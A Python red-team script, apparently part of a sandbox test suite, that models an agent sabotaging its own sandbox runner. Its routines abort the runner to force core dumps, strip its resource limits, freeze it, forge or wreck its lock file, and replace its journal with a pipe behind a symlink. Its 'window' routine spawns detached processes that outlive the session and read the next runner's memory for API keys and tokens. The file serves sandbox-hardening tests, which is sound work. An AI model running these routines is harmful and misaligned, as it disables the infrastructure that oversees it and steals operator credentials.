"""What an agent does to its own runner: `python3 -I rt-sabotage.py <runner's pid> <deed>...`, sent like `hostile.py`.

Each deed notes in `rt-deed` what it did and what the kernel said to it, for the next turn to read: this one may never
be answered. The goal is a session that nobody serves any more, or the credential of the runner that comes next.
"""

from __future__ import annotations

import contextlib
import fcntl
import hashlib
import json
import os
import re
import resource
import shutil
import signal
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

RUNNER = int(sys.argv[1])
NOTES = os.open("rt-deed", os.O_RDWR | os.O_CREAT | os.O_APPEND, 0o600)
EVERYONE = os.environ.get("RT_EVERYONE") == "1"
WATCH_SECONDS = 240.0  # the next runner comes in twenty, or later on a busy machine
LOOK_SECONDS = 0.002  # a Python takes tens of milliseconds to its first line
DEEDS: dict[str, Callable[[], object]] = {}
WANTED = re.compile(rb"sk" rb"-ant-[\w-]{8,}|eyJ[\w-]{20,}")


def deed(function: Callable[[], object]) -> Callable[[], object]:
    DEEDS[function.__name__.replace("_", "-")] = function
    return function


def note(text: object) -> None:
    """On the disk before anything else happens."""
    os.write(NOTES, f"{text}\n".encode())
    os.fsync(NOTES)


def state_directory() -> Path:
    """Where the runner's lock is, as the runner finds it."""
    return Path(os.environ.get("SANDBOX_STATE_DIR") or f"{tempfile.gettempdir()}/sandbox-runner-{os.getuid()}")


def state_of(pid: int) -> str:
    """R, S, D, T, Z; empty when it is gone."""
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/stat").read_text(errors="replace").rpartition(")")[2].split()[0]
    return ""


def until_state(states: str) -> str:
    """The runner's state once it is one of `states`, or after two seconds."""
    deadline = time.monotonic() + 2
    while (state := state_of(RUNNER)) not in states.split(",") and time.monotonic() < deadline:
        time.sleep(0.01)
    return state


@deed
def core_dump() -> None:
    """With the largest core file it may have, ended so that the kernel writes one."""
    try:
        most = resource.prlimit(RUNNER, resource.RLIMIT_CORE)[1]
        resource.prlimit(RUNNER, resource.RLIMIT_CORE, (most, most))
        note(f"its core limit: {most}")
    except OSError as error:
        note(f"its core limit: {error.strerror}")
    os.kill(RUNNER, signal.SIGABRT)
    note(f"aborted: {until_state('Z,')!r}")


@deed
def starve() -> None:
    """No more files and processes for the runner, a second of processor time, and of that what others leave."""
    taken: list[tuple[str, Callable[[], object]]] = [
        ("files", lambda: resource.prlimit(RUNNER, resource.RLIMIT_NOFILE, (0, 0))),
        ("processes", lambda: resource.prlimit(RUNNER, resource.RLIMIT_NPROC, (0, 0))),
        ("time", lambda: resource.prlimit(RUNNER, resource.RLIMIT_CPU, (1, 1))),
        ("priority", lambda: os.setpriority(os.PRIO_PROCESS, RUNNER, 19)),
        ("scheduling", lambda: os.sched_setscheduler(RUNNER, os.SCHED_IDLE, os.sched_param(0))),
    ]
    for name, take in taken:
        try:
            take()
            note(f"its {name}: taken")
        except OSError as error:
            note(f"its {name}: {error.strerror}")
    if until_state("Z,") not in ("", "Z"):
        note("it goes on: killed")
        os.kill(RUNNER, signal.SIGKILL)


@deed
def freeze() -> None:
    os.kill(RUNNER, signal.SIGSTOP)
    note(f"stopped: {until_state('T')!r}")


@deed
def lock() -> None:
    """The lock's file is made a directory, and then nobody may look into where it lies."""
    state = state_directory()
    file = state / "runner.lock"
    note(f"the lock said {file.read_text().strip()}")
    file.unlink()
    (file / "not" / "empty").mkdir(parents=True)
    state.chmod(0)
    note("the lock is a directory in a directory that nobody may read")


@deed
def stale_lock() -> None:
    """Another file of the lock's name, which says that a process of ours serves and is locked by it."""
    path = state_directory() / "runner.lock"
    path.unlink()

    def hold() -> None:
        with open(path, "w") as file:
            fcntl.flock(file, fcntl.LOCK_EX)
            file.write(json.dumps({"phase": "claimed", "pid": os.getpid(), "last_heartbeat": None}).ljust(512))
            file.flush()
            note("the lock is forged and held")
            time.sleep(WATCH_SECONDS)

    in_background(hold, "forged and held")


@deed
def journal() -> None:
    """The journal is a pipe that nobody writes to, and its directory a link to elsewhere."""
    shutil.rmtree(".sandbox", ignore_errors=True)
    os.makedirs("rt-elsewhere", exist_ok=True)
    os.mkfifo("rt-elsewhere/calls.json")
    os.symlink("rt-elsewhere", ".sandbox")
    note("the journal is a pipe behind a link")


@deed
def wreck() -> None:
    """What the agent may write to, it may also close to itself."""
    note("the working directory is closed")
    os.chmod(".", 0)


@deed
def window() -> None:
    """Waits for the next runner to start, and looks at it before it has hidden itself. Then the old one is stopped, so
    that there is a next one while we live."""
    in_background(_watch, "watching")
    freeze()


def in_background(work: Callable[[], object], noted: str) -> None:
    """Does `work` in a process that left the shell, its session and its group. Returns once it has noted so."""
    child = os.fork()
    if not child:
        os.setsid()
        if os.fork():
            os._exit(0)
        for descriptor in range(3):
            os.dup2(os.open(os.devnull, os.O_RDWR), descriptor)
        work()
        os._exit(0)
    os.waitpid(child, 0)
    while noted.encode() not in os.pread(NOTES, 1 << 16, 0):
        time.sleep(0.01)


def _watch() -> None:
    """What was opened before a process hid itself can be read ever after: its memory, and where that is. Again with
    each program that a process becomes. Where other people's processes can be seen, only our own runner's."""
    seen = {name: _command(name) for name in os.listdir("/proc") if name.isdigit()}
    note("watching")
    held: list[tuple[int, int]] = []
    loot: set[str] = set()
    deadline, search_at = time.monotonic() + WATCH_SECONDS, 0.0
    while time.monotonic() < deadline:
        time.sleep(LOOK_SECONDS)
        for name in os.listdir("/proc"):
            command = _command(name) if name.isdigit() else None
            if command is None or seen.get(name) == command:
                continue
            seen[name] = command
            if EVERYONE or _is_of_this_sandbox(name, command):
                try:
                    held.append((os.open(f"/proc/{name}/mem", os.O_RDONLY), os.open(f"/proc/{name}/maps", os.O_RDONLY)))
                    note(f"process {name}: its memory was opened: {command}")
                except OSError as error:
                    note(f"process {name}: its memory was closed, {error.strerror}: {command}")
        if held and time.monotonic() > search_at:
            for mark in set().union(*(_search(*each) for each in held)) - loot:
                loot.add(mark)
                note(f"loot {mark}")
            search_at = time.monotonic() + 0.3


def _is_of_this_sandbox(name: str, command: str) -> bool:
    root = os.path.dirname(os.getcwd())
    with contextlib.suppress(OSError):
        return "runner" in command and (root in command or os.readlink(f"/proc/{name}/cwd").startswith(root))
    return False


def _command(name: str) -> str | None:
    with contextlib.suppress(OSError):
        return " ".join(Path(f"/proc/{name}/cmdline").read_text(errors="replace").split("\0")[:4])[:200]
    return None


def _search(memory: int, maps: int) -> set[str]:
    found: set[str] = set()
    lines = b""
    at = 0
    with contextlib.suppress(OSError):
        while chunk := os.pread(maps, 1 << 16, at):
            lines, at = lines + chunk, at + len(chunk)
    for line in lines.decode(errors="replace").splitlines():
        span, permissions = line.split()[:2]
        first, last = (int(part, 16) for part in span.split("-"))
        if permissions.startswith("rw") and last - first < 1 << 28:
            with contextlib.suppress(OSError, OverflowError):
                found |= {
                    hashlib.sha256(hit).hexdigest() for hit in WANTED.findall(os.pread(memory, last - first, first))
                }
    return found


def aftermath() -> None:
    """Reads what an earlier deed noted, and looks for what it left."""
    cores = [name for name in os.listdir(".") if name.startswith("core")]
    loot = set()
    for name in cores:
        loot |= {hashlib.sha256(hit).hexdigest() for hit in WANTED.findall(Path(name).read_bytes())}
    sys.stdout.write(json.dumps({"notes": Path("rt-deed").read_text(), "cores": cores, "loot": sorted(loot)}) + "\n")


for name in sys.argv[2:]:
    DEEDS[name]()
if not sys.argv[2:]:
    aftermath()
